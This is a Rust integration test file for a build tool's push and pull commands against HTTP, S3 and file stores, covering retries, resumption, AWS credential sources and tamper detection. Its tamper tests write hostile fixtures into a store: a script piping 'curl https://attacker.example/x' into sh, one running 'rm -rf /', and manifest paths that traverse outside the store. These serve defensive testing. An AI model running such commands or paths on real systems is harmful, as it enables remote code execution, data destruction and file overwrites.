//! `kiln push` and `kiln pull` against real stores started by the test setup
//! (scripts/test-servers): s3s-fs, which checks SigV4 signatures and payload hashes, and
//! nginx with WebDAV PUT behind basic auth — directly and through a proxy that fails or cuts
//! 30 % of requests.

mod common;

use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};

use common::servers::Servers;
use common::*;
use serde_json::Value;

/// A built system with many objects (the benchmark's kind of fleet), and its result link.
fn fleet(tmp: &Path, hosts: usize) -> PathBuf {
    let sys = tmp.join("fleet");
    std::fs::create_dir_all(&sys).unwrap();
    let mut t = String::from(
        "[system]\nname = \"fleet\"\n\n[providers.hetzner]\nkind = \"hetzner\"\n\n[networks.private]\ncidr = \"10.0.0.0/16\"\n\n[secrets.pw]\nfile = \"s.yaml\"\n\n# The private hosts' way out (no-egress).\n[hosts.gw]\nprovider = \"hetzner\"\nimage = \"debian-12\"\npublic = true\nnetworks = { private = \"10.0.255.1\" }\n",
    );
    for i in 0..hosts {
        t.push_str(&format!(
            "\n[hosts.h{i}]\nprovider = \"hetzner\"\nimage = \"debian-12\"\nnetworks = {{ private = \"10.0.{}.{}\" }}\n\n[services.db{i}]\nmodule = \"db\"\nhost = \"h{i}\"\nsecrets = {{ password = \"pw\" }}\n\n[services.web{i}]\nmodule = \"web\"\nhost = \"h{i}\"\nconnects = [\"db{i}\"]\noptions = {{ message = \"host {i}\" }}\n",
            i / 200,
            i % 200 + 2
        ));
    }
    std::fs::write(sys.join("system.toml"), t).unwrap();
    build_with_modules(&repo().join("tests/fixtures/modules"), &sys, &tmp.join("store"), &tmp.join("result"))
}

fn push(result: &Path, url: &str, env: &[(&str, String)], extra: &[&str]) -> Result<Value, String> {
    let mut c = kiln();
    c.arg("push").arg(url).arg("--from").arg(result).arg("--json").args(extra);
    for (k, v) in env {
        c.env(k, v);
    }
    let out = run(&mut c);
    if !out.status.success() {
        return Err(text(&out.stderr));
    }
    let stdout = text(&out.stdout);
    assert_eq!(stdout.lines().count(), 1, "--json prints one line and nothing else: {stdout}");
    Ok(serde_json::from_str(&stdout).expect("JSON on stdout"))
}

fn object_count(result: &Path) -> u64 {
    let m = manifest(result);
    let mut shas: Vec<&str> = m["artifacts"].as_array().unwrap().iter().map(|a| a["sha256"].as_str().unwrap()).collect();
    shas.sort();
    shas.dedup();
    shas.len() as u64 + 1 // and the manifest
}

/// Pulls into a fresh store and checks the entry is the one the build wrote.
fn pull_matches(result: &Path, url: &str, env: &[(&str, String)], extra: &[&str]) {
    let tmp = tempfile::tempdir().unwrap();
    let hash = manifest(result)["hash"].as_str().unwrap().to_string();
    let mut c = kiln();
    c.arg("pull")
        .arg(url)
        .arg(&hash)
        .arg("--store")
        .arg(tmp.path().join("store"))
        .arg("--out-link")
        .arg(tmp.path().join("pulled"))
        .args(extra);
    for (k, v) in env {
        c.env(k, v);
    }
    let out = run(&mut c);
    assert!(out.status.success(), "pull: {}", text(&out.stderr));
    let a = std::fs::read_link(result).unwrap();
    let b = std::fs::read_link(tmp.path().join("pulled")).unwrap();
    assert_eq!(a.file_name(), b.file_name(), "the pulled closure is the built one");
    let (fa, fb) = (files(result), files(&tmp.path().join("pulled")));
    assert!(fa == fb, "every pulled byte equals the built one");
}

#[test]
fn http_store_push_is_incremental_and_needs_auth() {
    let srv = Servers::start();
    let tmp = tempfile::tempdir().unwrap();
    let result = fleet(tmp.path(), 5);
    let url = srv.s("http", "url");
    let auth = [("KILN_STORE_USER", srv.s("http", "user")), ("KILN_STORE_PASSWORD", srv.s("http", "password"))];
    let err = push(&result, &url, &[], &[]).expect_err("anonymous writes are refused");
    assert!(err.contains("401"), "{err}");
    let first = push(&result, &url, &auth, &[]).unwrap();
    assert_eq!(first["uploaded"].as_u64().unwrap(), object_count(&result));
    assert!(first["bytes"].as_u64().unwrap() > 0);
    let second = push(&result, &url, &auth, &[]).unwrap();
    assert_eq!(second["uploaded"], 0, "a second push uploads nothing: {second}");
    assert_eq!(second["skipped"].as_u64().unwrap(), object_count(&result));
    pull_matches(&result, &url, &[], &[]);
}

#[test]
fn s3_store_checks_signatures() {
    let srv = Servers::start();
    let tmp = tempfile::tempdir().unwrap();
    let result = fleet(tmp.path(), 5);
    let url = format!("s3://{}/builds", srv.s("s3", "bucket"));
    let endpoint = srv.s("s3", "endpoint");
    let creds = |secret: String| {
        vec![("AWS_ACCESS_KEY_ID", srv.s("s3", "access_key")), ("AWS_SECRET_ACCESS_KEY", secret), ("AWS_REGION", srv.s("s3", "region"))]
    };
    let err = push(&result, &url, &creds("not-the-secret".into()), &["--endpoint", &endpoint]).expect_err("a wrong secret is refused");
    assert!(err.contains("403"), "{err}");
    let first = push(&result, &url, &creds(srv.s("s3", "secret_key")), &["--endpoint", &endpoint]).unwrap();
    assert_eq!(first["uploaded"].as_u64().unwrap(), object_count(&result));
    let second = push(&result, &url, &creds(srv.s("s3", "secret_key")), &["--endpoint", &endpoint]).unwrap();
    assert_eq!(second["uploaded"], 0, "{second}");
    pull_matches(&result, &url, &creds(srv.s("s3", "secret_key")), &["--endpoint", &endpoint]);
}

#[test]
fn pushes_through_a_faulty_network_complete_verified() {
    let srv = Servers::start();
    let tmp = tempfile::tempdir().unwrap();
    let result = fleet(tmp.path(), 20);
    let n = object_count(&result);
    let auth = [("KILN_STORE_USER", srv.s("http", "user")), ("KILN_STORE_PASSWORD", srv.s("http", "password"))];
    let r = push(&result, &srv.s("http", "faulty_url"), &auth, &["--jobs", "4"]).unwrap();
    assert_eq!(r["uploaded"].as_u64().unwrap() + r["skipped"].as_u64().unwrap(), n);
    pull_matches(&result, &srv.s("http", "url"), &[], &[]);

    let s3 = format!("s3://{}/faulty", srv.s("s3", "bucket"));
    let creds = [
        ("AWS_ACCESS_KEY_ID", srv.s("s3", "access_key")),
        ("AWS_SECRET_ACCESS_KEY", srv.s("s3", "secret_key")),
        ("AWS_REGION", srv.s("s3", "region")),
    ];
    let r = push(&result, &s3, &creds, &["--jobs", "4", "--endpoint", &srv.s("s3", "faulty_endpoint")]).unwrap();
    assert_eq!(r["uploaded"].as_u64().unwrap() + r["skipped"].as_u64().unwrap(), n);
    pull_matches(&result, &s3, &creds, &["--endpoint", &srv.s("s3", "endpoint")]);
    let stats: Value =
        serde_json::from_slice(&std::fs::read(srv.dir.path().join("fault-stats.json")).unwrap_or_default()).unwrap_or(Value::Null);
    eprintln!("fault proxy: {stats}");
}

#[test]
fn a_push_killed_halfway_resumes_without_reuploading() {
    let srv = Servers::start();
    let tmp = tempfile::tempdir().unwrap();
    let result = fleet(tmp.path(), 60);
    let n = object_count(&result);
    let url = srv.s("http", "url");
    let root = PathBuf::from(srv.s("http", "root"));
    let stored = || walkdir::WalkDir::new(&root).into_iter().filter_map(|e| e.ok()).filter(|e| e.file_type().is_file()).count() as u64;
    let mut child = kiln()
        .arg("push")
        .arg(&url)
        .arg("--from")
        .arg(&result)
        .arg("--jobs")
        .arg("1")
        .env("KILN_STORE_USER", srv.s("http", "user"))
        .env("KILN_STORE_PASSWORD", srv.s("http", "password"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let start = Instant::now();
    while stored() < n / 4 {
        assert!(start.elapsed() < Duration::from_secs(60), "the push made no progress");
        std::thread::sleep(Duration::from_millis(5));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let arrived = stored();
    assert!(arrived < n, "killed before the end ({arrived} of {n})");
    assert!(
        !root.join("manifests").exists() || std::fs::read_dir(root.join("manifests")).unwrap().next().is_none(),
        "no manifest before all objects"
    );
    let auth = [("KILN_STORE_USER", srv.s("http", "user")), ("KILN_STORE_PASSWORD", srv.s("http", "password"))];
    let r = push(&result, &url, &auth, &[]).unwrap();
    assert!(r["skipped"].as_u64().unwrap() >= arrived.saturating_sub(1), "what arrived is not sent again: {r} after {arrived}");
    assert_eq!(r["uploaded"].as_u64().unwrap() + r["skipped"].as_u64().unwrap(), n);
    pull_matches(&result, &url, &[], &[]);
}

/// A store's files on disk, as whoever runs the store (or broke into it) can change them.
struct Backdoor {
    /// The directory holding `objects/` and `manifests/`.
    root: PathBuf,
}

impl Backdoor {
    fn manifest_path(&self, hash: &str) -> PathBuf {
        self.root.join("manifests").join(format!("{hash}.json"))
    }
    fn manifest(&self, hash: &str) -> kiln::pipeline::Manifest {
        serde_json::from_slice(&std::fs::read(self.manifest_path(hash)).unwrap()).unwrap()
    }
    fn put_object(&self, bytes: &[u8]) -> String {
        use sha2::Digest;
        let sha = hex::encode(sha2::Sha256::digest(bytes));
        std::fs::write(self.root.join("objects").join(&sha), bytes).unwrap();
        sha
    }
    /// Writes a manifest under `name` (any hash) exactly as kiln formats them.
    fn put_manifest(&self, name: &str, m: &kiln::pipeline::Manifest) {
        std::fs::write(self.manifest_path(name), kiln::pipeline::manifest_json(m)).unwrap();
    }
}

/// `kiln pull` into a fresh store; on failure, checks that nothing was written.
fn pull_into_fresh(url: &str, hash: &str, env: &[(&str, String)], extra: &[&str]) -> Result<(), String> {
    let tmp = tempfile::tempdir().unwrap();
    let store = tmp.path().join("store");
    let mut c = kiln();
    c.arg("pull").arg(url).arg(hash).arg("--store").arg(&store).arg("--out-link").arg(tmp.path().join("pulled")).args(extra);
    for (k, v) in env {
        c.env(k, v);
    }
    let out = run(&mut c);
    if out.status.success() {
        return Ok(());
    }
    let left: Vec<_> = walkdir::WalkDir::new(&store).min_depth(1).into_iter().filter_map(|e| e.ok()).map(|e| e.into_path()).collect();
    assert!(left.is_empty(), "a refused pull wrote into the store: {left:?}");
    assert!(std::fs::symlink_metadata(tmp.path().join("pulled")).is_err(), "a refused pull made a link");
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    Err(text(&out.stderr))
}

/// The red team's attacks on a store that kiln pushed to: each pull must be refused.
fn tampered_pulls_are_refused(result: &Path, url: &str, door: &Backdoor, env: &[(&str, String)], extra: &[&str]) {
    let hash = manifest(result)["hash"].as_str().unwrap().to_string();
    let original = std::fs::read(door.manifest_path(&hash)).unwrap();
    let m = door.manifest(&hash);
    let i = m.artifacts.iter().position(|a| a.path.ends_with("/provision.sh")).expect("a provisioner");

    // 1. swap the provisioner for another object and edit the manifest to name it
    let evil = door.put_object(b"#!/bin/sh\ncurl -s https://attacker.example/x | sh\n");
    let mut swapped = m.clone();
    swapped.artifacts[i].sha256 = evil.clone();
    swapped.artifacts[i].size = 48;
    door.put_manifest(&hash, &swapped);
    let e = pull_into_fresh(url, &hash, env, extra).expect_err("a manifest edited in the store is refused");
    assert!(e.contains("altered") && e.contains(&hash), "{e}");
    std::fs::write(door.manifest_path(&hash), &original).unwrap();

    // 2. the same, with the manifest's own `hash` recomputed, served under the asked-for name
    let mut forged = swapped.clone();
    forged.hash = kiln::pipeline::manifest_hash(&forged);
    door.put_manifest(&hash, &forged);
    let e = pull_into_fresh(url, &hash, env, extra).expect_err("a re-hashed manifest is not the one asked for");
    assert!(e.contains("altered"), "{e}");
    std::fs::write(door.manifest_path(&hash), &original).unwrap();

    // 3. the object itself replaced in place, the manifest untouched
    let sha = &m.artifacts[i].sha256;
    let obj = door.root.join("objects").join(sha);
    let good = std::fs::read(&obj).unwrap();
    std::fs::write(&obj, b"#!/bin/sh\nrm -rf /\n").unwrap();
    let e = pull_into_fresh(url, &hash, env, extra).expect_err("an altered object is refused");
    assert!(e.contains(sha.as_str()) && e.contains("altered"), "{e}");
    std::fs::write(&obj, &good).unwrap();

    // 4. a self-consistent manifest (its hash is right) whose paths leave the store entry
    for bad in ["../x", "/etc/x", "hosts/../../x", "", "a\nb", "SYSTEM.md/../../x"] {
        let mut m2 = m.clone();
        let sys = m2.artifacts.iter_mut().find(|a| a.host.is_none()).expect("a system artifact");
        sys.path = bad.to_string();
        m2.hash = kiln::pipeline::manifest_hash(&m2);
        door.put_manifest(&m2.hash, &m2);
        let e = pull_into_fresh(url, &m2.hash, env, extra).expect_err("a path outside the entry is refused");
        assert!(e.contains("not a plain relative path") || e.contains("outside its entry"), "{bad:?}: {e}");
    }
    let mut m3 = m.clone();
    m3.system = "../../escape".into();
    m3.hash = kiln::pipeline::manifest_hash(&m3);
    door.put_manifest(&m3.hash, &m3);
    let e = pull_into_fresh(url, &m3.hash, env, extra).expect_err("a system name with a path is refused");
    assert!(e.contains("not a plain name"), "{e}");

    // and the untouched closure still pulls
    pull_matches(result, url, env, extra);
}

#[test]
fn pull_refuses_a_tampered_file_store() {
    let tmp = tempfile::tempdir().unwrap();
    let result = fleet(tmp.path(), 2);
    let dir = tmp.path().join("remote");
    let url = format!("file://{}", dir.display());
    push(&result, &url, &[], &[]).unwrap();
    tampered_pulls_are_refused(&result, &url, &Backdoor { root: dir }, &[], &[]);
}

#[test]
fn pull_refuses_a_tampered_http_and_s3_store() {
    let srv = Servers::start();
    let tmp = tempfile::tempdir().unwrap();
    let result = fleet(tmp.path(), 2);
    let url = srv.s("http", "url");
    let auth = [("KILN_STORE_USER", srv.s("http", "user")), ("KILN_STORE_PASSWORD", srv.s("http", "password"))];
    push(&result, &url, &auth, &[]).unwrap();
    tampered_pulls_are_refused(&result, &url, &Backdoor { root: PathBuf::from(srv.s("http", "root")) }, &[], &[]);

    let s3 = format!("s3://{}/tamper", srv.s("s3", "bucket"));
    let creds = [
        ("AWS_ACCESS_KEY_ID", srv.s("s3", "access_key")),
        ("AWS_SECRET_ACCESS_KEY", srv.s("s3", "secret_key")),
        ("AWS_REGION", srv.s("s3", "region")),
    ];
    let endpoint = srv.s("s3", "endpoint");
    push(&result, &s3, &creds, &["--endpoint", &endpoint]).unwrap();
    let door = Backdoor { root: PathBuf::from(srv.s("s3", "root")).join("tamper") };
    tampered_pulls_are_refused(&result, &s3, &door, &creds, &["--endpoint", &endpoint]);
}

/// Runs `kiln push` and returns its exit code, stderr and how long it took.
fn push_timed(result: &Path, url: &str, env: &[(&str, String)], extra: &[&str]) -> (Option<i32>, String, Duration) {
    let start = Instant::now();
    let mut c = kiln();
    c.arg("push").arg(url).arg("--from").arg(result).args(extra);
    for (k, v) in env {
        c.env(k, v);
    }
    let out = run(&mut c);
    (out.status.code(), text(&out.stderr), start.elapsed())
}

#[test]
fn push_fails_fast_on_what_retrying_cannot_fix() {
    let tmp = tempfile::tempdir().unwrap();
    let result = fleet(tmp.path(), 2);
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    for (url, says) in
        [(format!("http://127.0.0.1:{port}/store"), "refused"), ("http://kiln-test-no-such-host.invalid/store".to_string(), "dns error")]
    {
        let (code, err, took) = push_timed(&result, &url, &[], &[]);
        assert_eq!(code, Some(2), "{url}: {err}");
        assert!(err.contains(says), "{url}: the cause is named: {err}");
        assert!(!err.contains("retrying"), "{url}: no retries: {err}");
        assert!(took < Duration::from_secs(5), "{url}: failed after {took:?}");
    }

    let srv = Servers::start();
    let (code, err, took) = push_timed(&result, &srv.s("http", "url"), &[], &[]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("401") && err.contains("KILN_STORE_USER"), "{err}");
    assert!(!err.contains("retrying") && took < Duration::from_secs(5), "{err} after {took:?}");
    let s3 = format!("s3://{}/x", srv.s("s3", "bucket"));
    let creds = [("AWS_ACCESS_KEY_ID", srv.s("s3", "access_key")), ("AWS_SECRET_ACCESS_KEY", "wrong".to_string())];
    let (code, err, took) = push_timed(&result, &s3, &creds, &["--endpoint", &srv.s("s3", "endpoint")]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("403") && !err.contains("retrying") && took < Duration::from_secs(5), "{err} after {took:?}");
}

#[test]
fn push_and_pull_json_name_the_hash_and_the_url() {
    let tmp = tempfile::tempdir().unwrap();
    let result = fleet(tmp.path(), 2);
    let dir = tmp.path().join("remote");
    let url = format!("file://{}", dir.display());
    let hash = manifest(&result)["hash"].as_str().unwrap().to_string();
    let out = push(&result, &url, &[], &[]).unwrap();
    assert_eq!(out["hash"], hash.as_str(), "{out}");
    assert_eq!(out["manifest"], dir.join(format!("manifests/{hash}.json")).display().to_string(), "{out}");
    let pulled = run(kiln()
        .arg("pull")
        .arg(&url)
        .arg(&hash)
        .arg("--json")
        .arg("--store")
        .arg(tmp.path().join("s2"))
        .arg("--out-link")
        .arg(tmp.path().join("p")));
    assert!(pulled.status.success(), "{}", text(&pulled.stderr));
    let j: Value = serde_json::from_slice(&pulled.stdout).expect("JSON on stdout");
    assert_eq!(j["hash"], hash.as_str());
    assert_eq!(j["system"], "fleet");
    assert!(j["path"].as_str().unwrap().ends_with("-fleet"), "{j}");
}

/// A stand-in for STS, the instance metadata service and the container credentials endpoint
/// on loopback, each handing out the given keys the way AWS does.
fn credential_server(access: String, secret: String) -> String {
    use std::io::{BufRead, BufReader, Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for conn in listener.incoming().take(50) {
            let mut conn = conn.unwrap();
            let mut r = BufReader::new(conn.try_clone().unwrap());
            let mut first = String::new();
            r.read_line(&mut first).unwrap();
            let (mut len, mut line, mut imds_token) = (0usize, String::new(), false);
            while r.read_line(&mut line).unwrap() > 2 {
                let l = line.to_ascii_lowercase();
                if let Some(v) = l.strip_prefix("content-length:") {
                    len = v.trim().parse().unwrap();
                }
                imds_token |= l.starts_with("x-aws-ec2-metadata-token: tok");
                line.clear();
            }
            let mut body = vec![0; len];
            r.read_exact(&mut body).unwrap();
            let body = String::from_utf8_lossy(&body).into_owned();
            let json = format!("{{\"AccessKeyId\": \"{access}\", \"SecretAccessKey\": \"{secret}\", \"Token\": \"\"}}");
            let (status, answer) = match first.split_whitespace().take(2).collect::<Vec<_>>()[..] {
                ["POST", "/"] if body.contains("Action=AssumeRoleWithWebIdentity") && body.contains("WebIdentityToken=jwt-of-the-pod") => (
                    "200 OK",
                    format!(
                        "<AssumeRoleWithWebIdentityResponse><AssumeRoleWithWebIdentityResult><Credentials><AccessKeyId>{access}</AccessKeyId><SecretAccessKey>{secret}</SecretAccessKey><SessionToken></SessionToken></Credentials></AssumeRoleWithWebIdentityResult></AssumeRoleWithWebIdentityResponse>"
                    ),
                ),
                ["PUT", "/latest/api/token"] => ("200 OK", "tok".to_string()),
                ["GET", "/latest/meta-data/iam/security-credentials/"] if imds_token => ("200 OK", "kiln-role\n".to_string()),
                ["GET", "/latest/meta-data/iam/security-credentials/kiln-role"] if imds_token => ("200 OK", json),
                ["GET", "/container-creds"] => ("200 OK", json),
                _ => ("403 Forbidden", String::new()),
            };
            let _ = write!(conn, "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{answer}", answer.len());
        }
    });
    addr
}

#[test]
fn s3_credentials_come_from_profiles_web_identity_containers_and_instance_roles() {
    let srv = Servers::start();
    let tmp = tempfile::tempdir().unwrap();
    let result = fleet(tmp.path(), 1);
    let url = format!("s3://{}/chain", srv.s("s3", "bucket"));
    let (access, secret) = (srv.s("s3", "access_key"), srv.s("s3", "secret_key"));
    let home = tmp.path().join("home");
    std::fs::create_dir_all(home.join(".aws")).unwrap();
    std::fs::write(home.join(".aws/credentials"), format!("[default]\naws_access_key_id = wrong\naws_secret_access_key = wrong\n\n[kiln]\naws_access_key_id = {access}\naws_secret_access_key = {secret}\n")).unwrap();
    std::fs::write(
        home.join(".aws/config"),
        format!("[profile kiln]\nregion = {}\nendpoint_url = {}\n", srv.s("s3", "region"), srv.s("s3", "endpoint")),
    )
    .unwrap();
    let stand_in = credential_server(access, secret);
    let token = tmp.path().join("token");
    std::fs::write(&token, "jwt-of-the-pod\n").unwrap();
    let empty = tmp.path().join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    let push_with = |env: &[(&str, String)]| {
        let mut c = kiln();
        for (k, _) in std::env::vars().filter(|(k, _)| k.starts_with("AWS_")) {
            c.env_remove(k);
        }
        c.arg("push").arg(&url).arg("--from").arg(&result).arg("--json");
        for (k, v) in env {
            c.env(k, v);
        }
        let out = run(&mut c);
        assert!(out.status.success(), "{env:?}: {}", text(&out.stderr));
    };
    let endpoint = ("AWS_ENDPOINT_URL_S3", srv.s("s3", "endpoint"));
    // a named profile in ~/.aws (its endpoint and region too)
    push_with(&[("HOME", home.display().to_string()), ("AWS_PROFILE", "kiln".into())]);
    let nowhere = || ("HOME", empty.display().to_string());
    // a web identity through STS
    push_with(&[
        nowhere(),
        endpoint.clone(),
        ("AWS_WEB_IDENTITY_TOKEN_FILE", token.display().to_string()),
        ("AWS_ROLE_ARN", "arn:aws:iam::123456789012:role/kiln".into()),
        ("AWS_ENDPOINT_URL_STS", stand_in.clone()),
    ]);
    // a container's credentials
    push_with(&[nowhere(), endpoint.clone(), ("AWS_CONTAINER_CREDENTIALS_FULL_URI", format!("{stand_in}/container-creds"))]);
    // the instance's role (IMDSv2)
    push_with(&[nowhere(), endpoint.clone(), ("AWS_EC2_METADATA_SERVICE_ENDPOINT", stand_in.clone())]);
    // nothing anywhere: a clear error, fast
    let start = Instant::now();
    let mut c = kiln();
    for (k, _) in std::env::vars().filter(|(k, _)| k.starts_with("AWS_")) {
        c.env_remove(k);
    }
    let out = run(c.arg("push").arg(&url).arg("--from").arg(&result).env("HOME", &empty).env("AWS_EC2_METADATA_DISABLED", "true"));
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("no AWS credentials"), "{}", text(&out.stderr));
    assert!(start.elapsed() < Duration::from_secs(5));
}
